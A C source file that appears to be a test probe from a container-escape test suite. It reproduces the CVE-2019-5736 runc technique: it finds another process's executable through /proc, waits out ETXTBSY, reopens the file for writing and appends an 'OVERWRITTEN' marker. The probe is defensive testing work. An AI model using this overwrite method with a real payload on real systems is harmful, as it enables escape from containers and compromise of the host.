// Tries to get a descriptor of another process's executable and, when that process has ended, to open it for writing
// (what CVE-2019-5736 did to runc). Waits for processes to end as long as it may.
//   attack_self_exe NAME SECONDS    NAME: the file name of the executable to overwrite
#include <dirent.h>
#include <time.h>

#include "attack.h"

static const char *wanted;

static int open_executable(void) {
  DIR *processes = opendir("/proc");
  if (!processes) broken("/proc");
  int found = -1;
  for (struct dirent *process; found < 0 && (process = readdir(processes));) {
    if (strtol(process->d_name, NULL, 10) <= 0 || strtol(process->d_name, NULL, 10) == getpid()) continue;
    char path[64], name[4096];
    snprintf(path, sizeof path, "/proc/%.20s/exe", process->d_name);
    const ssize_t length = readlink(path, name, sizeof name - 1);
    if (length < 0) continue;
    name[length] = '\0';
    const char *base = strrchr(name, '/');
    if (strcmp(base ? base + 1 : name, wanted) != 0) continue;
    found = open(path, O_RDONLY | O_CLOEXEC);
    if (found < 0) found = open(path, O_PATH | O_CLOEXEC);
  }
  closedir(processes);
  return found;
}

int main(int argc, char **argv) {
  if (argc < 3) broken("usage");
  wanted = argv[1];
  const time_t end = time(NULL) + strtol(argv[2], NULL, 10);
  int fd = -1;
  while ((fd = open_executable()) < 0 && time(NULL) < end) usleep(2000);
  if (fd < 0) return errno = ENOENT, refused("open"), 0;
  reached("open", "%d", fd);
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  int writable = -1;
  // ETXTBSY as long as it runs.
  while ((writable = open(path, O_WRONLY | O_CLOEXEC)) < 0 && errno == ETXTBSY && time(NULL) < end) usleep(2000);
  if (writable < 0) return refused("write"), 0;
  reached("write", "%d", writable);
  // A mark at the end leaves the program whole.
  if (lseek(writable, 0, SEEK_END) < 0 || write(writable, "OVERWRITTEN", 11) != 11) return refused("mark"), 0;
  reached("mark", "11");
  return 0;
}
